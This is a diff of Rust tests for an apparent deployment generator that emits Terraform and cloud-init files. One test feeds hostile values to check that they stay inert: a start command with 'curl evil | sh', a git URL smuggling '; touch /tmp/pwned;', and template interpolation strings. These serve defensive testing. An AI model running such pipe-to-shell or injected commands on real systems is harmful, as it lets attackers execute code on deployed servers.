@@ -25,7 +25,13 @@ fn hello_world_single_instance_validates() {
     assert!(compute.contains("resource \"aws_eip\" \"app\""));
     let ci = contents(&b, "cloud-init.yaml");
     assert!(ci.starts_with("#cloud-config\n"));
-    assert!(ci.contains("git clone -- 'tests/fixtures/hello_world_shape' /opt/app/src"));
+    // A local folder is not a remote the machine can clone: the code comes
+    // from the archive Terraform uploads, downloaded at boot.
+    assert!(!ci.contains("git clone"));
+    assert!(ci.contains("- \"python3 /opt/autodeploy/launch.py fetch\""));
+    assert_eq!(b.source_archive.as_deref(), Some("source.zip"));
+    assert!(compute.contains("source      = \"${path.module}/../source.zip\""));
+    assert!(compute.contains("\"s3:GetObject\""));
     assert!(ci.contains("nginx"));
     let network = contents(&b, "terraform/network.tf");
     assert!(!network.contains("\"22\"") && !network.contains("= 22\n"));
@@ -97,6 +103,7 @@ fn hostile_decision_fields_stay_inert() {
     let (analysis, mut d) = scenario("hostile_names", "deploy this on AWS");
     let evil = "node app.js; curl evil | sh # ${path.module} %{ if true }x%{ endif }";
     d.source.input = "https://example.com/r.git'; touch /tmp/pwned; echo '${path.module}".into();
+    d.source.kind = autodeploy_core::SourceKind::Git;
     let s = &mut d.services[0];
     s.start = Some(evil.into());
     s.env.push(autodeploy_core::EnvBinding {
